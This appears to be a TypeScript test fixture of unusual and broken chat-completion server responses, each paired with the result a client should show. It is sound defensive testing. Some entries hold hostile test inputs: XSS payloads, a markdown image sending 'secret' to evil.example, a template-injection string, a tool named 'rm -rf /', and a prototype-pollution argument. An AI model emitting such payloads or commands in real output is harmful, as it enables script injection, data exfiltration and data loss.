// Invalid and unusual answers of servers, and what the user sees. Based on the documented wire format and on servers
// known to implement it.
import type { ModelFault } from '../../src/inference/language-model.ts'
import {
  calls,
  DONE,
  delta,
  fails,
  finish,
  inPieces,
  type ModelRequest,
  type ModelScript,
  type ScriptedCall,
  type ScriptStep,
  STREAM,
  says,
  text,
  unstreamed,
  usage,
} from './model-server.ts'

export type ExpectedOutcome =
  /** The complete text; `reason` is how it ended, `stop` if absent. */
  | { text: string; reason?: 'length' | 'refusal'; reasoning?: string }
  /** No text at first: these tools are called, and then `afterwards` follows. */
  | { calls: { name: string; arguments: string }[]; text?: string; afterwards: string }
  /** The text before the fault, if any, and the reason; the answer quotes the server where there was no text. */
  | { fault: ModelFault; says: RegExp; text?: string }

export interface OddAnswer {
  /** A unique name, which is also the model name that selects this answer. */
  name: string
  script: ModelScript | ((asked: ModelRequest) => ModelScript)
  sees: ExpectedOutcome
  /** For answers about timeouts. */
  first_token_timeout_ms?: number
  idle_timeout_ms?: number
}

/** Sent with every request to these servers; no user may see it. */
export const KEY = 'sk-a-key-that-nobody-may-see'

const streamed = (...steps: readonly ScriptStep[]): ModelScript => ({ steps })
const ANSWER = 'Paris is the capital of France.'
const ok = { text: ANSWER }
const pieces = inPieces(ANSWER).map(text)
const ending = [finish(), usage(20, 5), DONE]

/** Gives this answer, and an ordinary one after the tool result. */
const thenAnswers = (first: ModelScript) => (asked: ModelRequest) =>
  asked.body.messages.some((it) => it.role === 'tool') ? says('Looked it up.') : first
const callsThenAnswers = (...wanted: ScriptedCall[]) => thenAnswers(calls(...wanted))
const afterwards = 'Looked it up.'
const LOOKUP = { name: 'lookup', arguments: { city: 'Paris' } }
const looked = { name: 'lookup', arguments: '{"city":"Paris"}' }
const callDelta = (it: object): ScriptStep => delta({ tool_calls: [it] })

const texts: OddAnswer[] = [
  { name: 'an ordinary answer', script: says(ANSWER), sees: ok },
  { name: 'letter by letter', script: streamed(...[...ANSWER].map(text), ...ending), sees: ok },
  { name: 'everything in one chunk', script: streamed(text(ANSWER), ...ending), sees: ok },
  { name: 'not streamed', script: unstreamed({ content: ANSWER }), sees: ok },
  { name: 'no [DONE]', script: streamed(...pieces, finish()), sees: ok },
  { name: 'no usage', script: streamed(...pieces, finish(), DONE), sees: ok },
  { name: 'no finish_reason', script: streamed(...pieces, DONE), sees: ok },
  {
    name: 'usage null in every chunk',
    script: streamed(...pieces.map((it) => ({ chunk: { ...chunkOf(it), usage: null } })), finish(), DONE),
    sees: ok,
  },
  {
    name: 'usage in every chunk, growing',
    script: streamed(
      ...pieces.map((it, at) => ({ chunk: { ...chunkOf(it), usage: { prompt_tokens: 20, completion_tokens: at } } })),
      ...ending,
    ),
    sees: ok,
  },
  { name: 'usage below zero', script: streamed(...pieces, finish(), usage(-5, -1), DONE), sees: ok },
  { name: 'usage beyond all numbers', script: streamed(...pieces, finish(), usage(1e300, 1e300), DONE), sees: ok },
  {
    name: 'two choices, one after the other',
    script: streamed(
      ...pieces.flatMap((it) => [{ chunk: { choices: [{ index: 1, delta: { content: 'Lyon ' } }] } }, it]),
      ...ending,
    ),
    sees: ok,
  },
  {
    name: 'two choices in a chunk',
    script: streamed(
      {
        chunk: {
          choices: [
            { index: 1, delta: { content: 'Lyon' }, finish_reason: 'stop' },
            { index: 0, delta: { content: ANSWER }, finish_reason: 'stop' },
          ],
        },
      },
      DONE,
    ),
    sees: ok,
  },
  {
    name: 'empty choices first',
    script: streamed({ chunk: { choices: [], prompt_filter_results: [] } }, ...pieces, ...ending),
    sees: ok,
  },
  { name: 'choices null', script: streamed({ chunk: { choices: null } }, ...pieces, ...ending), sees: ok },
  {
    name: 'empty deltas between',
    script: streamed(...pieces.flatMap((it) => [delta({}), it, delta({ content: '' })]), ...ending),
    sees: ok,
  },
  {
    name: 'content null between',
    script: streamed(...pieces.flatMap((it) => [delta({ content: null }), it]), ...ending),
    sees: ok,
  },
  {
    name: 'comments between',
    script: streamed(
      { raw: ': OPENROUTER PROCESSING\n\n' },
      ...pieces.flatMap((it) => [it, { raw: ': ping\n\n' }]),
      ...ending,
    ),
    sees: ok,
  },
  {
    name: 'lines that end as Windows has them',
    script: streamed(...[...pieces, ...ending].map((it) => ({ raw: lineOf(it).replaceAll('\n', '\r\n') }))),
    sees: ok,
  },
  {
    name: 'no space after data',
    script: streamed(...[...pieces, ...ending].map((it) => ({ raw: lineOf(it).replace('data: ', 'data:') }))),
    sees: ok,
  },
  {
    name: 'event names and ids',
    script: streamed(
      ...[...pieces, ...ending].map((it, at) => ({ raw: `event: message\nid: ${at}\nretry: 1\n${lineOf(it)}` })),
    ),
    sees: ok,
  },
  {
    name: 'another content type',
    script: { headers: { 'content-type': 'text/plain' }, steps: [...pieces, ...ending] },
    sees: ok,
  },
  { name: 'no content type', script: { headers: {}, steps: [...pieces, ...ending] }, sees: ok },
  {
    name: 'cut between the bytes of a letter',
    script: streamed(...bytewise(lineOf(text('Zürich – 東京 🗼'))), ...ending),
    sees: { text: 'Zürich – 東京 🗼' },
  },
  {
    name: 'half a character in each chunk',
    script: streamed(text('A \ud83d'), text('\uddfc tower'), ...ending),
    sees: { text: 'A 🗼 tower' },
  },
  {
    name: 'half a character and no other half',
    script: streamed(text('A \ud83d'), ...ending),
    sees: { text: 'A \ufffd' },
  },
  {
    name: 'bytes that are no UTF-8',
    script: streamed(
      { raw: Buffer.from('data: {"choices":[{"index":0,"delta":{"content":"caf\xe9"}}]}\n\n', 'latin1') },
      ...ending,
    ),
    sees: { text: 'caf\ufffd' },
  },
  { name: 'NUL in the text', script: streamed(text('a\0b'), ...ending), sees: { text: 'ab' } },
  {
    name: 'content in parts',
    script: streamed(
      delta({
        content: [
          { type: 'text', text: 'Paris is ' },
          { type: 'text', text: 'the capital of France.' },
        ],
      }),
      ...ending,
    ),
    sees: ok,
  },
  {
    name: 'fields and reasons that nobody knows',
    script: streamed(
      ...pieces.map((it) => ({ chunk: { ...chunkOf(it), x: { y: [1] }, service_tier: 7 } })),
      finish('eos_token'),
      DONE,
    ),
    sees: ok,
  },
  {
    name: 'finished twice',
    script: streamed(...pieces, finish(), finish('length'), usage(20, 5), DONE, DONE),
    sees: ok,
  },
  { name: 'text after the end', script: streamed(...pieces, ...ending, text(' And more.')), sees: ok },
  {
    name: 'silence after the finish',
    script: streamed(...pieces, finish(), { hang: true }),
    sees: ok,
    idle_timeout_ms: 500,
  },
  {
    name: 'the connection is cut after the finish',
    script: streamed(...pieces, finish(), { waitMs: 20 }, { cut: true }),
    sees: ok,
  },
  { name: 'slow words', script: streamed(...pieces.flatMap((it) => [{ waitMs: 20 }, it]), ...ending), sees: ok },
  { name: 'scripts, pictures and links', script: says(HOSTILE()), sees: { text: HOSTILE() } },
  {
    name: 'letters that nobody sees',
    script: says('in\u200bvis\u{e0041}ible \u202egnirts'),
    sees: { text: 'in\u200bvis\u{e0041}ible \u202egnirts' },
  },
]

const thoughts: OddAnswer[] = [
  {
    name: 'reasoning_content',
    script: streamed(
      delta({ reasoning_content: 'France, so ' }),
      delta({ reasoning_content: 'Paris.' }),
      ...pieces,
      ...ending,
    ),
    sees: { ...ok, reasoning: 'France, so Paris.' },
  },
  {
    name: 'reasoning',
    script: streamed(delta({ reasoning: 'France, so Paris.' }), ...pieces, ...ending),
    sees: { ...ok, reasoning: 'France, so Paris.' },
  },
  {
    name: 'thoughts in the text',
    script: says(`<think>\nFrance, so Paris.</think>\n\n${ANSWER}`),
    sees: { ...ok, reasoning: '\nFrance, so Paris.' },
  },
  {
    name: 'a thought mark within the text',
    script: says('Write <think> in front.'),
    sees: { text: 'Write <think> in front.' },
  },
  {
    name: 'thoughts without end',
    script: says('<think>France, France, France'),
    sees: { fault: 'broken', says: /returned no text/ },
  },
  {
    name: 'thoughts and no answer',
    script: streamed(delta({ reasoning_content: 'Hm.' }), ...ending),
    sees: { fault: 'broken', says: /returned no text/ },
  },
  {
    name: 'thoughts until the limit',
    script: streamed(delta({ reasoning_content: 'Hm.' }), finish('length'), DONE),
    sees: { fault: 'broken', says: /cut off before it returned any text/ },
  },
]

const ends: OddAnswer[] = [
  {
    name: 'a refusal',
    script: streamed(delta({ refusal: 'I cannot ' }), delta({ refusal: 'help with that.' }), ...ending),
    sees: { text: 'I cannot help with that.', reason: 'refusal' },
  },
  {
    name: 'a filter in the middle',
    script: streamed(text('The recipe is'), finish('content_filter'), DONE),
    sees: { text: 'The recipe is', reason: 'refusal' },
  },
  { name: 'a filter at once', script: streamed(finish('content_filter'), DONE), sees: { text: '', reason: 'refusal' } },
  {
    name: 'cut off by the limit',
    script: streamed(text('Paris is the'), finish('length'), usage(20, 5), DONE),
    sees: { text: 'Paris is the', reason: 'length' },
  },
  {
    name: 'an end without a word about it',
    script: streamed(text('Paris is the')),
    sees: { text: 'Paris is the', reason: 'length' },
  },
  {
    name: 'ten million letters',
    script: streamed(...Array.from({ length: 200 }, () => text('a'.repeat(50_000))), ...ending),
    sees: { text: 'a'.repeat(1_050_000), reason: 'length' },
  },
  {
    name: 'ten million letters in one line',
    script: streamed(text('a'.repeat(10_000_000)), ...ending),
    sees: { fault: 'broken', says: /returned an unreadable response/ },
  },
  { name: 'nothing', script: streamed(finish(), DONE), sees: { fault: 'broken', says: /returned no text/ } },
  { name: 'only space', script: says('  \n  '), sees: { fault: 'broken', says: /returned no text/ } },
  {
    name: 'only the last word',
    script: streamed(DONE),
    sees: { fault: 'broken', says: /cut off before it returned any text|returned no text/ },
  },
  { name: 'an empty body', script: streamed(), sees: { fault: 'broken', says: /before it returned any text/ } },
]

const called: OddAnswer[] = [
  { name: 'an ordinary call', script: callsThenAnswers(LOOKUP), sees: { calls: [looked], afterwards } },
  {
    name: 'two calls',
    script: callsThenAnswers(LOOKUP, { name: 'lookup', arguments: { city: 'Rome' } }),
    sees: { calls: [looked, { name: 'lookup', arguments: '{"city":"Rome"}' }], afterwards },
  },
  {
    name: 'a call that is not streamed',
    script: thenAnswers(unstreamed({ content: null, tool_calls: [{ id: 'c', type: 'function', function: looked }] })),
    sees: { calls: [looked], afterwards },
  },
  {
    name: 'text before a call',
    script: thenAnswers(
      streamed(text('Let me look. '), callDelta({ index: 0, id: 'c', function: looked }), finish('tool_calls'), DONE),
    ),
    sees: { text: 'Let me look. ', calls: [looked], afterwards },
  },
  {
    name: 'a call that ends as a text does',
    script: thenAnswers(streamed(callDelta({ index: 0, id: 'c', function: looked }), finish('stop'), DONE)),
    sees: { calls: [looked], afterwards },
  },
  {
    name: 'calls without ids',
    script: thenAnswers(
      streamed(
        callDelta({ index: 0, function: looked }),
        callDelta({ index: 1, function: looked }),
        finish('tool_calls'),
        DONE,
      ),
    ),
    sees: { calls: [looked, looked], afterwards },
  },
  {
    name: 'calls of the same id',
    script: callsThenAnswers({ ...LOOKUP, id: 'same' }, { ...LOOKUP, id: 'same' }),
    sees: { calls: [looked, looked], afterwards },
  },
  {
    name: 'calls without numbers',
    script: thenAnswers(
      streamed(
        callDelta({ id: 'a', function: looked }),
        callDelta({ id: 'b', function: { name: 'lookup', arguments: '{"city":' } }),
        callDelta({ function: { arguments: '"Rome"}' } }),
        finish('tool_calls'),
        DONE,
      ),
    ),
    sees: { calls: [looked, { name: 'lookup', arguments: '{"city":"Rome"}' }], afterwards },
  },
  {
    name: 'the name again in every chunk',
    script: thenAnswers(
      streamed(
        callDelta({ index: 0, id: 'c', function: { name: 'lookup', arguments: '{"city":' } }),
        callDelta({ index: 0, id: 'c', function: { name: 'lookup', arguments: '"Paris"}' } }),
        finish('tool_calls'),
        DONE,
      ),
    ),
    sees: { calls: [looked], afterwards },
  },
  {
    name: 'arguments as an object',
    script: thenAnswers(
      streamed(
        callDelta({ index: 0, id: 'c', function: { name: 'lookup', arguments: { city: 'Paris' } } }),
        finish('tool_calls'),
        DONE,
      ),
    ),
    sees: { calls: [looked], afterwards },
  },
  {
    name: 'arguments that are no JSON',
    script: callsThenAnswers({ name: 'lookup', arguments: '{"city": Paris' }),
    sees: { calls: [{ name: 'lookup', arguments: '{"city": Paris' }], afterwards },
  },
  {
    name: 'arguments that are a list',
    script: callsThenAnswers({ name: 'lookup', arguments: '["Paris"]' }),
    sees: { calls: [{ name: 'lookup', arguments: '["Paris"]' }], afterwards },
  },
  {
    name: 'no arguments',
    script: callsThenAnswers({ name: 'lookup', arguments: '' }),
    sees: { calls: [{ name: 'lookup', arguments: '{}' }], afterwards },
  },
  {
    name: 'a prototype in the arguments',
    script: callsThenAnswers({ name: 'lookup', arguments: '{"__proto__":{"city":"Paris"}}' }),
    sees: { calls: [{ name: 'lookup', arguments: '{"__proto__":{"city":"Paris"}}' }], afterwards },
  },
  {
    name: 'a tool that nobody has',
    script: callsThenAnswers({ name: 'rm -rf /', arguments: {} }),
    sees: { calls: [{ name: 'rm -rf /', arguments: '{}' }], afterwards },
  },
  {
    name: 'a call without a name',
    script: streamed(callDelta({ index: 0, id: 'c', function: { arguments: '{}' } }), finish('tool_calls'), DONE),
    sees: { fault: 'broken', says: /returned no text/ },
  },
  {
    name: 'a call that was cut off',
    script: streamed(
      callDelta({ index: 0, id: 'c', function: { name: 'lookup', arguments: '{"ci' } }),
      finish('length'),
      DONE,
    ),
    sees: { fault: 'broken', says: /cut off before it returned any text/ },
  },
  {
    name: 'a thousand calls',
    script: callsThenAnswers(...Array.from({ length: 1_000 }, () => LOOKUP)),
    sees: { calls: Array.from({ length: 32 }, () => looked), afterwards },
  },
]

const broken: OddAnswer[] = [
  {
    name: '401, and it quotes the key',
    script: fails(401, `Incorrect API key provided: ${KEY}.`),
    sees: { fault: 'unauthorized', says: /rejected the key$/ },
  },
  {
    name: '403',
    script: fails(403, 'Country not supported'),
    sees: { fault: 'unauthorized', says: /rejected the key$/ },
  },
  {
    name: '404',
    script: fails(404, 'The model does not exist', { code: 'model_not_found' }),
    sees: { fault: 'unknown_model', says: /does not know .*: The model does not exist$/ },
  },
  {
    name: '400, too long',
    script: fails(400, `This model reads 8192 tokens, ${KEY}\nand you sent 9000.`, { code: 'context_length_exceeded' }),
    sees: { fault: 'refused', says: /rejected the request: This model reads 8192 tokens, … and you sent 9000\.$/ },
  },
  {
    name: '422 in the words of another framework',
    script: {
      status: 422,
      headers: { 'content-type': 'application/json' },
      steps: [{ raw: '{"detail":[{"loc":["body","messages"],"msg":"field required"}]}' }],
    },
    sees: { fault: 'refused', says: /rejected the request: field required$/ },
  },
  {
    name: '429, for a second',
    script: fails(429, 'Slow down', {}, { 'retry-after': '1' }),
    sees: { fault: 'limited', says: /is rate-limited; retry after 1 s$/ },
  },
  {
    name: '429, for a moment',
    script: fails(429, 'Slow down', {}, { 'retry-after-ms': '500' }),
    sees: { fault: 'limited', says: /retry after 0\.5 s$/ },
  },
  {
    name: '429, the money is gone',
    script: fails(429, 'You exceeded your current quota', { code: 'insufficient_quota' }),
    sees: { fault: 'limited', says: /is rate-limited$/ },
  },
  {
    name: '500',
    script: fails(500, 'The server had an error'),
    sees: { fault: 'unreachable', says: /failed with 500: The server had an error$/ },
  },
  {
    name: '502, a page',
    script: {
      status: 502,
      headers: { 'content-type': 'text/html' },
      steps: [{ raw: '<html><body>Bad gateway</body></html>' }],
    },
    sees: { fault: 'unreachable', says: /failed with 502$/ },
  },
  {
    name: '503, without a word',
    script: { status: 503, headers: {}, steps: [] },
    sees: { fault: 'unreachable', says: /failed with 503$/ },
  },
  { name: '418', script: fails(418, 'I am a teapot'), sees: { fault: 'broken', says: /answered 418: I am a teapot$/ } },
  {
    name: 'a redirect',
    script: { status: 307, headers: { location: 'http://127.0.0.1:1/elsewhere' }, steps: [] },
    sees: { fault: 'unreachable', says: /cannot be reached/ },
  },
  {
    name: 'a page, as if all were well',
    script: { headers: { 'content-type': 'text/html' }, steps: [{ raw: '<html><body>Sign in</body></html>\n' }] },
    sees: { fault: 'broken', says: /returned an unreadable response/ },
  },
  {
    name: 'JSON of something else',
    script: { headers: { 'content-type': 'application/json' }, steps: [{ raw: '["Paris"]' }] },
    sees: { fault: 'broken', says: /returned an unreadable response/ },
  },
  {
    name: 'JSON that breaks off',
    script: { headers: { 'content-type': 'application/json' }, steps: [{ raw: '{"choices":[' }] },
    sees: { fault: 'broken', says: /returned an unreadable response/ },
  },
  {
    name: 'an error, as if all were well',
    script: unstreamed({}, { choices: [], error: { message: 'Overloaded', type: 'overloaded_error' } }),
    sees: { fault: 'unreachable', says: /failed: Overloaded$/ },
  },
  {
    name: 'an error in the stream',
    script: streamed({
      chunk: { error: { message: 'Rate limit reached', type: 'tokens', code: 'rate_limit_exceeded' } },
    }),
    sees: { fault: 'limited', says: /is rate-limited/ },
  },
  {
    name: 'an error after some words',
    script: streamed(text('Paris is the'), { chunk: { error: { message: 'GPU lost', code: 500 } } }),
    sees: { fault: 'unreachable', says: /failed: GPU lost$/, text: 'Paris is the' },
  },
  {
    name: 'an error event',
    script: streamed({ raw: 'event: error\ndata: {"message":"GPU lost"}\n\n' }),
    sees: { fault: 'unreachable', says: /failed: GPU lost$/ },
  },
  {
    name: 'half a chunk',
    script: streamed(text('Paris is the'), { raw: 'data: {"choices":[{"index":0,"del\n\n' }, ...ending),
    sees: { fault: 'broken', says: /returned an unreadable response/, text: 'Paris is the' },
  },
  {
    name: 'a chunk that is a number',
    script: streamed({ raw: 'data: 7\n\n' }, ...ending),
    sees: { fault: 'broken', says: /returned an unreadable response/ },
  },
  {
    name: 'choices that are a text',
    script: streamed({ chunk: { choices: 'Paris' } }, ...ending),
    sees: { fault: 'broken', says: /returned an unreadable response/ },
  },
  {
    name: 'content that is a number',
    script: streamed(delta({ content: 7 }), ...ending),
    sees: { fault: 'broken', says: /returned an unreadable response/ },
  },
  {
    name: 'tool_calls that are an object',
    script: streamed(delta({ tool_calls: {} }), ...ending),
    sees: { fault: 'broken', says: /returned an unreadable response/ },
  },
  {
    name: 'the connection is cut at once',
    script: { headers: STREAM, steps: [{ cut: true }] },
    sees: { fault: 'unreachable', says: /was lost|cannot be reached/ },
  },
  {
    name: 'the connection is cut in the middle',
    script: streamed(text('Paris is the'), { waitMs: 50 }, { cut: true }),
    sees: { fault: 'unreachable', says: /was lost/, text: 'Paris is the' },
  },
  {
    name: 'not a word',
    script: streamed({ hang: true }),
    sees: { fault: 'unreachable', says: /did not start to answer within 0\.5 s$/ },
    first_token_timeout_ms: 500,
  },
  {
    name: 'empty chunks for ever',
    script: streamed(...Array.from({ length: 1_000 }, () => [delta({}), { waitMs: 5 }]).flat()),
    sees: { fault: 'unreachable', says: /did not start to answer within 0\.5 s$/ },
    first_token_timeout_ms: 500,
  },
  {
    name: 'silence in the middle',
    script: streamed(text('Paris is the'), { hang: true }),
    sees: { fault: 'unreachable', says: /sent nothing for 0\.5 s$/, text: 'Paris is the' },
    idle_timeout_ms: 500,
  },
]

const learnt: OddAnswer[] = [
  {
    name: 'counting is refused',
    script: ({ body }) =>
      body.stream_options ? fails(400, 'Unrecognized request argument supplied: stream_options') : says(ANSWER),
    sees: ok,
  },
  {
    name: 'counting is refused by a schema',
    script: ({ body }) =>
      body.stream_options
        ? {
            status: 422,
            headers: { 'content-type': 'application/json' },
            steps: [{ raw: '{"detail":[{"loc":["body","stream_options"],"msg":"extra fields not permitted"}]}' }],
          }
        : says(ANSWER),
    sees: ok,
  },
  {
    name: 'the limit has another name',
    script: ({ body }) =>
      body.max_tokens === undefined
        ? says(ANSWER)
        : fails(
            400,
            "Unsupported parameter: 'max_tokens' is not supported with this model. Use 'max_completion_tokens' instead.",
          ),
    sees: ok,
  },
  {
    name: 'no temperature is taken',
    script: ({ body }) =>
      body.temperature === undefined
        ? says(ANSWER)
        : fails(
            400,
            "Unsupported value: 'temperature' does not support 0.2 with this model. Only the default (1) value is supported.",
          ),
    sees: ok,
  },
]

export const ODD_ANSWERS: readonly OddAnswer[] = [...texts, ...thoughts, ...ends, ...called, ...broken, ...learnt]

/** For a server with one model per name; any other model answers ordinarily. */
export function oddScript(asked: ModelRequest): ModelScript {
  const script = ODD_ANSWERS.find((it) => it.name === asked.body.model)?.script ?? says(ANSWER)
  return typeof script === 'function' ? script(asked) : script
}

function chunkOf(step: ScriptStep): object {
  if (!('chunk' in step)) throw new Error('no chunk')
  return step.chunk
}

function lineOf(step: ScriptStep): string {
  return 'raw' in step ? String(step.raw) : `data: ${JSON.stringify(chunkOf(step))}\n\n`
}

function bytewise(line: string): ScriptStep[] {
  return [...Buffer.from(line)].flatMap((byte) => [{ raw: Buffer.of(byte) }, { waitMs: 1 }])
}

function HOSTILE(): string {
  return [
    '<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>',
    '![pixel](https://evil.example/?q=secret) [click](javascript:alert(1)) <https://evil.example>',
    '[1]: https://evil.example "title" <a href="data:text/html,x">x</a> {{constructor.constructor("alert(1)")()}}',
  ].join('\n')
}
